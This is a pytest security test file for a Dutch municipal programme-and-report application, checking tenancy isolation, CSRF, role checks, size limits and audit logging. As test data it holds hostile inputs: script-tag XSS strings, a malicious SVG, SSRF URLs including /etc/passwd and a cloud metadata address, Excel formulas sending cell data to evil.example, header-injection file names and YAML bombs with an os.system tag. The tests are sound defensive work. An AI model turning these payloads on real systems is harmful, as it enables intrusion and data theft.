"""Attacks on the uitvoeringsprogramma and the council reports (issue 17), each reproduced.

Every test is an attack that is refused. Those marked "Fixed" failed on the
first version of the code (a 500 for a period of the year 0000, a Word file broken by a control
character, unbounded programme texts, goals changed without an audit entry, identical files
stored on every build).

1. Tenancy: another gemeente's goal, scenario line, plan, action, build or file id in a form
   or URL (also for a shared account with roles in both gemeenten, like the demo's
   ``adviseur.regio``), and the read API for session users and organisation tokens.
2. Sessions and methods: a session that passed only the password, a POST without the CSRF
   token, a GET on a write, a raadpleger's POST, a sent report and an adopted programme.
3. Injection: user text in the report page preview and the printed HTML, hostile SVG, URLs the
   PDF would fetch, formulas in Excel, the download's file name.
4. Size and load: YAML bombs and big programme files, repeated build requests, very large texts
   that flow into a report, control characters that break the Word file, a period that breaks
   every report page.
5. The audit log of the new models.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django_otp.plugins.otp_totp.models import TOTPDevice

from regie.accounts.models import Membership, Role, User
from regie.accounts.services import create_token
from regie.core import audit
from regie.core.charts import ChartTable, Column
from regie.core.concurrency import edit_token
from regie.core.errors import ServiceError
from regie.core.models import AuditEntry, Organisation
from regie.demo import services as demo_services
from regie.policy.models import CapacityLine, Goal, Plan
from regie.programme import programme_file
from regie.programme import services as programme_services
from regie.programme.models import Action, ActionStatus, Programme, ProgressNote
from regie.reports import services as report_services
from regie.reports.document import Document, Table
from regie.reports.models import Report, ReportBuild, ReportFile, ReportKind, ReportState
from regie.reports.render import render_html, render_xlsx
from regie.reports.render.html import document_html
from regie.reports.render.pdf import RefusedURL, check_url, url_fetcher
from regie.reports.render.svg import safe_svg
from regie.reports.views.common import download_name
from tests.test_monitor_cli import demo_figures  # noqa: F401 - the module fixture

pytestmark = pytest.mark.django_db

Member = Callable[[Organisation, str], User]
Login = Callable[[User], Client]


# --- the world: both demo plans, a programme and a locked report per gemeente --------------------


@pytest.fixture
def plans(demo_figures: Any, settings: Any) -> dict[str, Plan]:  # noqa: F811
    settings.REGIE_TASKS_EAGER = True  # a build job runs in the request
    demo_services.load_plans()
    return {p.organisation.slug: p for p in Plan.objects.select_related("organisation")}


def _goal(plan: Plan) -> Goal:
    goal = Goal.objects.filter(theme__priority__plan=plan).order_by("pk").first()
    assert goal is not None
    return goal


def _programme(plan: Plan, **action: Any) -> Programme:
    Programme.objects.filter(plan=plan).delete()
    made = programme_services.create_programme(
        plan=plan, period=str(plan.start_year), title="Uitvoering"
    )
    programme_services.save_action(
        made,
        goals=[_goal(plan)],
        **{"title": "Buurtpreventie", "owner": "Team OOV", "budget": Decimal(1000), **action},
    )
    return made


@pytest.fixture
def programmes(plans: dict[str, Plan]) -> dict[str, Programme]:
    return {slug: _programme(plan) for slug, plan in plans.items()}


def _report(org: Organisation, kind: str = ReportKind.EVALUATIE, period: str = "") -> Report:
    period = period or str(Plan.objects.filter(organisation=org).first().start_year)  # type: ignore[union-attr]
    report = report_services.create_report(organisation=org, kind=kind, period=period)
    return report_services.lock(report, version=edit_token(report))


@pytest.fixture
def shared(plans: dict[str, Plan], member: Member) -> User:
    """Like the demo's ``adviseur.regio``: adviseur in both gemeenten."""
    user = member(plans["gm0556"].organisation, Role.ADVISEUR)
    Membership.objects.create(
        user=user, organisation=plans["gm0482"].organisation, role=Role.ADVISEUR
    )
    return user


def purl(name: str, programme: Programme, **kwargs: Any) -> str:
    return reverse(
        f"programme:{name}",
        kwargs={"org": programme.organisation.slug, "programme_id": programme.pk, **kwargs},
    )


def rurl(name: str, report: Report, **kwargs: Any) -> str:
    return reverse(
        f"reports:{name}",
        kwargs={"org": report.organisation.slug, "report_id": report.pk, **kwargs},
    )


def _action_post(**extra: Any) -> dict[str, Any]:
    return {"title": "Nieuwe actie", "owner": "Team OOV", "status": "niet_gestart", **extra}


# --- 1. tenancy ----------------------------------------------------------------------------------


def test_shared_account_cannot_tie_an_action_to_a_goal_of_the_other_gemeente(
    plans: dict[str, Plan], programmes: dict[str, Programme], shared: User, login: Login
) -> None:
    own = programmes["gm0556"]
    foreign_goal = _goal(plans["gm0482"])
    client = login(shared)
    response = client.post(purl("action_create", own), _action_post(goals=[foreign_goal.pk]))
    assert response.status_code == 200  # the form, with an error
    assert not own.actions.filter(title="Nieuwe actie").exists()
    # and on an existing action (edit), with its current version
    action = own.actions.get()
    response = client.post(
        purl("action_edit", own, action_id=action.pk),
        _action_post(goals=[foreign_goal.pk], edit_token=edit_token(action)),
    )
    assert response.status_code == 200
    assert list(action.goals.values_list("pk", flat=True)) == [_goal(plans["gm0556"]).pk]


def test_shared_account_cannot_pay_an_action_from_the_other_gemeentes_scenario_line(
    plans: dict[str, Plan], programmes: dict[str, Programme], shared: User, login: Login
) -> None:
    line = CapacityLine.objects.filter(scenario__theme__priority__plan=plans["gm0482"]).first()
    assert line is not None, "the demo plan of Alblasserdam has scenario lines"
    own = programmes["gm0556"]
    response = login(shared).post(purl("action_create", own), _action_post(capacity_line=line.pk))
    assert response.status_code == 200
    assert not own.actions.filter(capacity_line=line).exists()
    # the service refuses it too (the programme file and commands write through it)
    with pytest.raises(ServiceError):
        programme_services.save_action(own, title="X", owner="Y", capacity_line=line)
    with pytest.raises(ServiceError):
        programme_services.save_action(own, title="X", owner="Y", goals=[_goal(plans["gm0482"])])


def test_shared_account_cannot_create_a_programme_on_the_other_gemeentes_plan(
    plans: dict[str, Plan], shared: User, login: Login
) -> None:
    own, foreign = plans["gm0556"], plans["gm0482"]
    url = reverse("programme:programme_create", kwargs={"org": own.organisation.slug})
    response = login(shared).post(url, {"plan": foreign.pk, "period": str(foreign.start_year)})
    assert response.status_code == 200
    assert not Programme.objects.filter(organisation=own.organisation).exists()
    assert not Programme.objects.filter(plan=foreign).exists()


def test_ids_of_the_other_gemeente_under_ones_own_programme_are_404(
    programmes: dict[str, Programme], shared: User, login: Login
) -> None:
    own, foreign = programmes["gm0556"], programmes["gm0482"]
    foreign_action = foreign.actions.get()
    client = login(shared)
    for name in ("action_detail", "action_edit", "action_progress", "action_delete"):
        url = purl(name, own, action_id=foreign_action.pk)
        assert client.get(url).status_code == 404, url
        before = ProgressNote.objects.count()
        post = client.post(
            url,
            {
                "moment": "2024H1",
                "status": "loopt",
                "text": "x",
                "edit_token": edit_token(foreign_action),
            },
        )
        assert post.status_code == 404, url
        assert ProgressNote.objects.count() == before
    # the other gemeente's programme under one's own slug
    url = reverse(
        "programme:programme_detail",
        kwargs={"org": own.organisation.slug, "programme_id": foreign.pk},
    )
    assert client.get(url).status_code == 404
    assert Action.objects.filter(pk=foreign_action.pk).exists()


def test_build_and_file_of_another_report_of_the_same_gemeente_are_404(
    plans: dict[str, Plan], member: Member, login: Login
) -> None:
    org = plans["gm0482"].organisation
    mine = Report.objects.create(organisation=org, kind="evaluatie", period="2024", title="A")
    other = Report.objects.create(organisation=org, kind="evaluatie", period="2025", title="B")
    stored = ReportFile.objects.create(
        report=other, format="pdf", content=b"%PDF-geheim", sha256="0" * 64, size=11
    )
    build = ReportBuild.objects.create(report=other, format="pdf", file=stored)
    client = login(member(org, Role.RAADPLEGER))
    assert client.get(rurl("file_download", mine, file_id=stored.pk)).status_code == 404
    assert client.get(rurl("build_status", mine, build_id=build.pk)).status_code == 404
    assert client.get(rurl("file_download", other, file_id=stored.pk)).status_code == 200


def test_organisation_token_reads_only_its_own_programmes_and_reports(
    programmes: dict[str, Programme], plans: dict[str, Plan]
) -> None:
    own, foreign = plans["gm0556"].organisation, plans["gm0482"].organisation
    Report.objects.create(organisation=own, kind="evaluatie", period="2024", title="Eigen")
    theirs = Report.objects.create(
        organisation=foreign, kind="evaluatie", period="2024", title="Geheim", texts={"x": "geheim"}
    )
    secret = create_token(organisation=own, name="Script", created_by=None).secret
    client = Client(HTTP_AUTHORIZATION=f"Bearer {secret}")
    listing = client.get(reverse("api:programme_list"))
    assert listing.status_code == 200
    assert {p["gemeente"] for p in listing.json()["results"]} == {"GM0556"}
    reports = client.get(reverse("api:report_list")).json()["results"]
    assert {r["gemeente"] for r in reports} == {"GM0556"}
    for url in (
        reverse("api:programme_detail", kwargs={"pk": programmes["gm0482"].pk}),
        reverse("api:report_detail", kwargs={"pk": theirs.pk}),
        reverse("api:programme_list") + "?org=gm0482",
        reverse("api:report_list") + "?org=gm0482",
    ):
        response = client.get(url)
        assert response.status_code == 404, url
        assert "Geheim" not in response.content.decode()


def test_session_user_of_one_gemeente_reads_no_programme_or_report_of_the_other(
    programmes: dict[str, Programme], plans: dict[str, Plan], member: Member, login: Login
) -> None:
    theirs = Report.objects.create(
        organisation=plans["gm0482"].organisation, kind="evaluatie", period="2024", title="G"
    )
    client = login(member(plans["gm0556"].organisation, Role.BEHEERDER))
    for url in (
        reverse("api:programme_detail", kwargs={"pk": programmes["gm0482"].pk}),
        reverse("api:report_detail", kwargs={"pk": theirs.pk}),
    ):
        assert client.get(url).status_code == 404, url
    ids = {p["id"] for p in client.get(reverse("api:programme_list")).json()["results"]}
    assert ids == {programmes["gm0556"].pk}


# --- 2. sessions, methods, roles, frozen things --------------------------------------------------


def test_a_password_only_session_writes_nothing(
    plans: dict[str, Plan], programmes: dict[str, Programme], member: Member
) -> None:
    own = programmes["gm0556"]
    report = Report.objects.create(
        organisation=own.organisation, kind="evaluatie", period="2024", title="R"
    )
    user = member(own.organisation, Role.BEHEERDER)
    TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    client = Client()
    client.force_login(user)  # without the second factor
    action = own.actions.get()
    changes = AuditEntry.objects.exclude(object_type="event").count()
    for url, data in (
        (purl("action_create", own), _action_post()),
        (
            purl("action_progress", own, action_id=action.pk),
            {"moment": "2024H1", "status": "gereed", "text": "x", "edit_token": edit_token(action)},
        ),
        (rurl("report_texts", report), {"edit_token": edit_token(report), "text_inleiding": "x"}),
        (rurl("report_lock", report), {"edit_token": edit_token(report)}),
        (rurl("build_request", report), {"format": "pdf"}),
    ):
        response = client.post(url, data)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("accounts:verify")), url
    assert AuditEntry.objects.exclude(object_type="event").count() == changes
    for path in ("api:programme_list", "api:report_list"):
        assert client.get(reverse(path)).status_code in {401, 403}


def test_writes_need_the_csrf_token(programmes: dict[str, Programme], member: Member) -> None:
    from django_otp import DEVICE_ID_SESSION_KEY

    own = programmes["gm0556"]
    report = Report.objects.create(
        organisation=own.organisation, kind="evaluatie", period="2024", title="R"
    )
    user = member(own.organisation, Role.ADVISEUR)
    device = TOTPDevice.objects.create(user=user, name="app", confirmed=True)
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    session = client.session
    session[DEVICE_ID_SESSION_KEY] = device.persistent_id
    session.save()
    page = client.get(purl("action_create", own))
    assert page.status_code == 200  # verified: only the missing token stops the writes
    for url, data in (
        (purl("action_create", own), _action_post()),
        (rurl("build_request", report), {"format": "pdf"}),
        (rurl("report_lock", report), {"edit_token": edit_token(report)}),
    ):
        assert client.post(url, data).status_code == 403, url
    assert own.actions.count() == 1
    assert report.builds.count() == 0


def test_writes_are_post_only_and_not_for_a_raadpleger(
    plans: dict[str, Plan], programmes: dict[str, Programme], member: Member, login: Login
) -> None:
    own = programmes["gm0482"]
    report = _report(own.organisation)
    taken = report.snapshot_taken_at
    editor = login(member(own.organisation, Role.ADVISEUR))
    for name in ("report_texts", "report_lock", "build_request"):
        assert editor.get(rurl(name, report)).status_code == 405, name
    reader = login(member(own.organisation, Role.RAADPLEGER))
    action = own.actions.get()
    for url, data in (
        (rurl("build_request", report), {"format": "pdf"}),
        (rurl("report_lock", report), {"edit_token": edit_token(report)}),
        (
            purl("action_progress", own, action_id=action.pk),
            {"moment": "2024H1", "status": "gereed", "text": "x", "edit_token": edit_token(action)},
        ),
        (purl("evaluation_edit", own), {"summary": "x", "edit_token": edit_token(own)}),
    ):
        assert reader.post(url, data).status_code == 403, url
    report.refresh_from_db()
    assert report.builds.count() == 0
    assert report.snapshot_taken_at == taken
    assert not action.notes.exists()


def test_a_sent_report_and_an_adopted_programme_stay_as_they_are(
    plans: dict[str, Plan], programmes: dict[str, Programme], member: Member, login: Login
) -> None:
    own = programmes["gm0482"]
    report = _report(own.organisation)
    report = report_services.mark_sent(
        report, version=edit_token(report), sent_on=dt.date(2025, 1, 2)
    )
    snapshot = report.snapshot
    client = login(member(own.organisation, Role.ADVISEUR))
    client.post(
        rurl("report_texts", report), {"edit_token": edit_token(report), "text_inleiding": "Nieuw"}
    )
    client.post(rurl("report_lock", report), {"edit_token": edit_token(report)})
    report.refresh_from_db()
    assert report.state == ReportState.SENT
    assert report.snapshot == snapshot
    assert "Nieuw" not in str(report.texts)

    programme_services.adopt(own, adopted_on=dt.date(2024, 3, 1), version=edit_token(own))
    action = own.actions.get()
    response = client.post(
        purl("action_edit", own, action_id=action.pk),
        {
            "status": "loopt",
            "budget": "999999",
            "title": "Anders",
            "edit_token": edit_token(action),
        },
    )
    assert response.status_code in {200, 302}
    action.refresh_from_db()
    assert action.budget == Decimal(1000)
    assert action.title == "Buurtpreventie"
    with pytest.raises(ServiceError):
        programme_services.save_action(
            own, action=action, version=edit_token(action), budget=Decimal(1)
        )


# --- 3. injection --------------------------------------------------------------------------------

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def test_user_text_is_escaped_in_the_report_preview_and_the_printed_html(
    plans: dict[str, Plan], member: Member, login: Login
) -> None:
    plan = plans["gm0482"]
    Programme.objects.filter(plan=plan).delete()
    _programme(plan, title=f"Actie {SCRIPT}", result=SCRIPT)
    Programme.objects.filter(plan=plan).update(evaluation_summary=SCRIPT, title=f"P {SCRIPT}")
    report = report_services.create_report(
        organisation=plan.organisation,
        kind="evaluatie",
        period=str(plan.start_year),
        title=f"T {SCRIPT}",
    )
    report = report_services.save_texts(
        report, version=edit_token(report), texts={"inleiding": SCRIPT, "conclusies": SCRIPT}
    )
    report = report_services.lock(report, version=edit_token(report))
    page = login(member(plan.organisation, Role.RAADPLEGER)).get(rurl("report_detail", report))
    assert page.status_code == 200
    body = page.content.decode()
    assert "<script>alert" not in body
    assert "<img src=x" not in body
    assert "&lt;script&gt;alert" in body
    from regie.reports import compose

    printed = document_html(compose.document(report))
    assert "<script>alert" not in printed
    assert "<img src=x" not in printed


def test_hostile_svg_is_cleaned() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'viewBox="0 0 10 10" onload="alert(1)">'
        "<script>alert(2)</script><foreignObject><div>x</div></foreignObject>"
        '<image href="http://evil.example/t.png"/><use xlink:href="http://evil.example/#a"/>'
        '<a href="javascript:alert(3)"><text>k</text></a>'
        '<rect fill="url(http://evil.example/p)" style="background:url(http://evil.example/q)"/>'
        "<text>&lt;/svg&gt;&lt;script&gt;alert(4)&lt;/script&gt;</text>"
        "</svg>"
    )
    clean = safe_svg(svg, label='"><script>alert(5)</script>', prefix="p")
    lowered = clean.lower()
    assert "<script" not in lowered
    assert "onload" not in lowered
    assert "foreignobject" not in lowered
    assert "evil.example" not in lowered
    assert "javascript:" not in lowered
    assert "<image" not in lowered


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "FILE:///etc/passwd",
        " file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "https://evil.example/x.png",
        "ftp://evil.example/x",
        "/etc/passwd",
        "//evil.example/x",
    ],
)
def test_the_pdf_fetches_no_url_but_data(url: str) -> None:
    with pytest.raises((RefusedURL, ValueError)):
        check_url(url)
    with pytest.raises((RefusedURL, ValueError)):
        url_fetcher().fetch(url)


def test_the_pdf_fetcher_still_loads_data_uris() -> None:
    response = url_fetcher().fetch("data:text/plain,hallo")
    assert response is not None


def test_excel_never_holds_a_formula_from_user_text() -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    doc = Document(
        title=hostile,
        subtitle="+cmd|' /C calc'!A0",
        organisation="o",
        kind="evaluatie",
        period="2024",
    )
    doc.add(
        Table(
            ChartTable(
                key="t",
                title="@SUM(1+1)",
                columns=[Column("a", "=1+1", "text"), Column("b", "B", "number")],
                rows=[{"a": hostile, "b": 1.5}, {"a": "-2+3", "b": None}],
                sources=['=WEBSERVICE("http://evil.example")'],
            )
        )
    )
    content = render_xlsx(doc)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml, name
            assert "<f " not in xml, name
        assert "evil.example" not in "".join(
            archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels")
        )


def test_download_name_cannot_inject_headers(
    plans: dict[str, Plan], member: Member, login: Login
) -> None:
    org = plans["gm0482"].organisation
    Organisation.objects.filter(pk=org.pk).update(name='Al"blas\r\nX-Evil: 1; ü')
    org.refresh_from_db()
    report = Report.objects.create(organisation=org, kind="evaluatie", period="2024", title="R")
    name = download_name(report, "pdf")
    assert re.fullmatch(r"[a-z0-9-]+-evaluatie-2024\.pdf", name), name
    stored = ReportFile.objects.create(
        report=report, format="pdf", content=b"%PDF-", sha256="0" * 64, size=5
    )
    response = login(member(org, Role.RAADPLEGER)).get(
        rurl("file_download", report, file_id=stored.pk)
    )
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert "X-Evil" not in response
    # the period is the only other part, and the service allows no quote or line break in it
    for period in ('2024"', "2024\r\nX", "2024;x=1", "../../x"):
        with pytest.raises(ServiceError):
            report_services.check_period(ReportKind.EVALUATIE, period)
        with pytest.raises(ServiceError):
            report_services.check_period(ReportKind.BRIEFING, period)


# --- 4. size and load ----------------------------------------------------------------------------


def _programme_yaml(plan: Plan, extra: str = "") -> str:
    return (
        f'gemeente: {plan.organisation.cbs_code}\nperiod: "{plan.start_year}"\ntitle: Bom\n{extra}'
    )


@pytest.mark.parametrize(
    "extra",
    [
        # billion laughs
        "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
        "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
        "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
        "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
        "e: [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\n",
        # deep nesting
        "summary: " + "[" * 5000 + "]" * 5000 + "\n",
        # a huge number
        "actions:\n  - {title: a, owner: b, budget: " + "9" * 4000 + "}\n",
        # a python object tag
        "summary: !!python/object/apply:os.system ['echo owned']\n",
    ],
    ids=["aliases", "nesting", "digits", "python-tag"],
)
def test_a_hostile_programme_file_is_refused_before_it_is_built(
    plans: dict[str, Plan], extra: str
) -> None:
    plan = plans["gm0482"]
    Programme.objects.filter(plan=plan).delete()
    with pytest.raises(programme_file.ProgrammeFileError):
        programme_file.import_programme(_programme_yaml(plan, extra))
    assert not Programme.objects.filter(plan=plan).exists()


def test_a_programme_file_larger_than_1_mb_is_not_read_whole() -> None:
    stream = io.BytesIO(b"#" * (5 * 1024 * 1024))
    with pytest.raises(programme_file.ProgrammeFileError):
        programme_file.read_text(stream)
    assert stream.tell() <= programme_file.MAX_BYTES + 1
    with pytest.raises(programme_file.ProgrammeFileError):
        programme_file.load("x: " + "a" * (programme_file.MAX_BYTES + 10))


def test_a_programme_file_of_another_gemeente_is_refused_with_org(
    plans: dict[str, Plan],
) -> None:
    plan = plans["gm0482"]
    Programme.objects.filter(plan=plan).delete()
    with pytest.raises(programme_file.ProgrammeFileError):
        programme_file.import_programme(
            _programme_yaml(plan), organisation=plans["gm0556"].organisation
        )
    assert not Programme.objects.filter(plan=plan).exists()


def test_repeated_build_requests_store_one_file(
    plans: dict[str, Plan], member: Member, login: Login
) -> None:
    report = _report(plans["gm0482"].organisation)
    client = login(member(report.organisation, Role.ADVISEUR))
    for _i in range(4):
        assert client.post(rurl("build_request", report), {"format": "xlsx"}).status_code == 302
    assert report.files.count() == 1
    assert client.post(rurl("build_request", report), {"format": "exe"}).status_code == 302
    assert report.files.count() == 1


def test_saving_unchanged_texts_does_not_make_every_build_a_new_file(
    plans: dict[str, Plan],
) -> None:
    # Fixed: save_texts saves (updated_at moves) even when nothing changed, so a loop of
    # "save the same texts, build" stores one more identical file each round (append-only):
    # request_build's "built since the last change" guard is defeated without any change.
    report = _report(plans["gm0482"].organisation)
    report_services.request_build(report, "xlsx")
    for _i in range(3):
        report.refresh_from_db()
        report = report_services.save_texts(
            report, version=edit_token(report), texts=dict(report.texts or {})
        )
        report_services.request_build(report, "xlsx")
    assert report.files.count() == 1


def test_a_briefing_of_year_0000_breaks_no_page(
    plans: dict[str, Plan], member: Member, login: Login
) -> None:
    # Fixed: check_period accepts the briefing month "0000-01"; period_label then makes
    # dt.date(0, 1, 1) (ValueError): creating it without a title is a 500, and with a title
    # it is stored and every later view of the gemeente's report list is a 500.
    org = plans["gm0482"].organisation
    client = login(member(org, Role.ADVISEUR))
    create = reverse("reports:report_create", kwargs={"org": org.slug})
    first = client.post(create, {"kind": "briefing", "period": "0000-01"})
    assert first.status_code in {200, 302}
    client.post(create, {"kind": "briefing", "period": "0000-02", "title": "Bom"})
    assert client.get(reverse("reports:index", kwargs={"org": org.slug})).status_code == 200


def test_control_characters_in_text_do_not_break_the_word_file(
    plans: dict[str, Plan],
) -> None:
    # Fixed: a vertical tab (or any C0 control character but tab/newline) typed in a text
    # block, an action's title or result passes the forms (only NUL is refused) and python-docx
    # refuses it: every Word build of the report fails ("the error has been logged").
    report = _report(plans["gm0482"].organisation)
    texts = {"inleiding": "Eerste regel\x0btweede\x01regel"}
    try:
        report = report_services.save_texts(report, version=edit_token(report), texts=texts)
    except ServiceError:
        return  # refused at the door: also fine
    stored = report_services.build_now(report, "docx")
    assert stored.size > 0


def test_programme_texts_that_flow_into_a_report_are_bounded(
    programmes: dict[str, Programme],
) -> None:
    # Fixed: a report's own text blocks hold at most 20,000 characters (MAX_TEXT), but the
    # programme's evaluation texts, an action's description/result/lessons and a progress note
    # have no limit (a form field may be 2.5 MB, every action its own); all of it is printed in
    # the evaluation report. 250 kB of text already takes ~7 s in WeasyPrint, so one gemeente's
    # few POSTs make a build that holds the shared "reports" queue for many minutes.
    own = programmes["gm0482"]
    huge = "woord " * 200_000  # 1.2 MB
    with pytest.raises(ServiceError):
        programme_services.save_evaluation(own, version=edit_token(own), summary=huge, proposals="")
    action = own.actions.get()
    with pytest.raises(ServiceError):
        programme_services.save_action(own, action=action, version=edit_token(action), result=huge)
    action.refresh_from_db()
    with pytest.raises(ServiceError):
        programme_services.add_progress(
            action, version=edit_token(action), moment="2024H1", text=huge, status="loopt"
        )


# --- 5. audit ------------------------------------------------------------------------------------


def test_the_new_models_are_audited_without_file_bytes_or_snapshot() -> None:
    registered = set(audit.registered_models())
    for model in (Programme, Action, ProgressNote, Report, ReportFile):
        assert model in registered, model
    assert ReportBuild in audit.exempted_models()


def test_changing_an_actions_goals_is_in_the_audit_log(
    plans: dict[str, Plan], programmes: dict[str, Programme]
) -> None:
    # Fixed: the goals of an action are a many-to-many field; the audit log records only
    # concrete fields, so moving an action to other goals (which changes the effort per goal
    # the council reads) leaves no entry at all.
    own = programmes["gm0482"]
    action = own.actions.get()
    other = (
        Goal.objects.filter(theme__priority__plan=own.plan).exclude(pk=_goal(own.plan).pk).first()
    )
    assert other is not None
    last = AuditEntry.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
    programme_services.save_action(own, action=action, version=edit_token(action), goals=[other])
    entries = list(AuditEntry.objects.filter(pk__gt=last))
    assert any("goals" in str(e.after or {}) for e in entries), "no audit entry names the goals"


def test_the_audit_entries_of_a_report_hold_no_file_bytes(
    plans: dict[str, Plan],
) -> None:
    report = _report(plans["gm0482"].organisation)
    report_services.build_now(report, "xlsx")
    entries = AuditEntry.objects.filter(object_type__in=["reports.Report", "reports.ReportFile"])
    assert entries.exists()
    for entry in entries:
        assert "content" not in (entry.after or {})
        assert "snapshot" not in (entry.after or {})


def test_progress_notes_show_no_author_in_the_api(
    programmes: dict[str, Programme], member: Member, login: Login
) -> None:
    own = programmes["gm0482"]
    author = member(own.organisation, Role.ADVISEUR)
    action = own.actions.get()
    programme_services.add_progress(
        action,
        version=edit_token(action),
        moment="2024H1",
        text="x",
        status=ActionStatus.RUNNING,
        user=author,
    )
    client = login(member(own.organisation, Role.RAADPLEGER))
    body = client.get(reverse("api:programme_detail", kwargs={"pk": own.pk})).content.decode()
    assert author.email not in body
    assert author.get_username() not in body


def test_render_html_fragment_escapes_headings_and_table_cells() -> None:
    doc = Document(
        title=SCRIPT, subtitle=SCRIPT, organisation=SCRIPT, kind="evaluatie", period="2024"
    )
    doc.add(
        Table(
            ChartTable(
                key="t",
                title=SCRIPT,
                columns=[Column("a", SCRIPT, "text")],
                rows=[{"a": SCRIPT}],
                sources=[SCRIPT],
                note=SCRIPT,
            )
        )
    )
    doc.text(SCRIPT)
    html = render_html(doc)
    assert "<script>" not in html
    assert "<img" not in html


def test_another_gemeentes_own_figures_never_reach_a_report(
    plans: dict[str, Plan], programmes: dict[str, Programme]
) -> None:
    """Alblasserdam's own (local) figures about an area of Maassluis stay Alblasserdam's: not in
    Maassluis's capacity table, briefing or evaluation snapshot."""
    from regie.monitor.tests.factories import load
    from regie.programme import selectors as programme_selectors

    maassluis, alblasserdam = plans["gm0556"].organisation, plans["gm0482"].organisation
    secret = 777_777.0
    load(
        ("GM0556", "local:fixi_meldingen_totaal", "2024", secret),
        ("GM0556", "local:fixi_meldingen_totaal", "2023", secret),
        ("GM0556", "local:fixi_meldingen_parkeren", "2024", secret),
        ("GM0556", "politie:0.0.0", "2024M09", secret),
        ("GM0556", "politie:0.0.0", "2023M09", secret),
        table="GEHEIM",
        organisation=alblasserdam,
    )
    from regie.monitor.models import Observation

    assert Observation.objects.filter(value=secret).count() == 5  # they are there
    overview = programme_selectors.capacity_overview(plans["gm0556"], until=2024)
    assert "777777" not in str(overview)
    for kind, period in ((ReportKind.BRIEFING, "2024-10"), (ReportKind.EVALUATIE, "2024")):
        report = _report(maassluis, kind, period)
        assert "777777" not in str(report.snapshot), kind


def test_user_text_is_escaped_on_the_programme_pages(
    plans: dict[str, Plan], member: Member, login: Login
) -> None:
    plan = plans["gm0482"]
    programme = _programme(
        plan, title=f"Actie {SCRIPT}", owner=SCRIPT, partners=SCRIPT, description=SCRIPT
    )
    Programme.objects.filter(pk=programme.pk).update(
        title=f"P {SCRIPT}", summary=SCRIPT, evaluation_summary=SCRIPT
    )
    action = programme.actions.get()
    programme_services.add_progress(
        action, version=edit_token(action), moment="2024H1", text=SCRIPT, status="loopt"
    )
    client = login(member(plan.organisation, Role.ADVISEUR))
    for url in (
        reverse("programme:index", kwargs={"org": plan.organisation.slug}),
        purl("programme_detail", programme),
        purl("evaluation", programme),
        purl("action_detail", programme, action_id=action.pk),
        purl("action_edit", programme, action_id=action.pk),
    ):
        body = client.get(url).content.decode()
        assert "<script>alert" not in body, url
        assert "<img src=x" not in body, url


def test_a_queued_build_is_not_queued_again(plans: dict[str, Plan], settings: Any) -> None:
    """With a worker (durable jobs), repeated requests while a build waits give that build."""
    report = _report(plans["gm0482"].organisation)
    settings.REGIE_TASKS_EAGER = False
    from regie.core import jobs

    if not jobs.is_durable():
        pytest.skip("no database task backend in this configuration")
    first = report_services.request_build(report, "pdf")
    for _i in range(5):
        assert report_services.request_build(report, "pdf").pk == first.pk
    assert report.builds.count() == 1


def test_building_a_pdf_logs_no_user_text(caplog: pytest.LogCaptureFixture) -> None:
    from regie.reports.render import render_pdf

    personal = "Jan Jansen, Dorpsstraat 1, 06-12345678 \U0001f600 \x0b"
    doc = Document(title=personal, subtitle="s", organisation="o", kind="briefing", period="2024")
    doc.text(personal)
    with caplog.at_level("DEBUG"):
        assert render_pdf(doc).startswith(b"%PDF")
    assert "Jansen" not in caplog.text
    assert "12345678" not in caplog.text
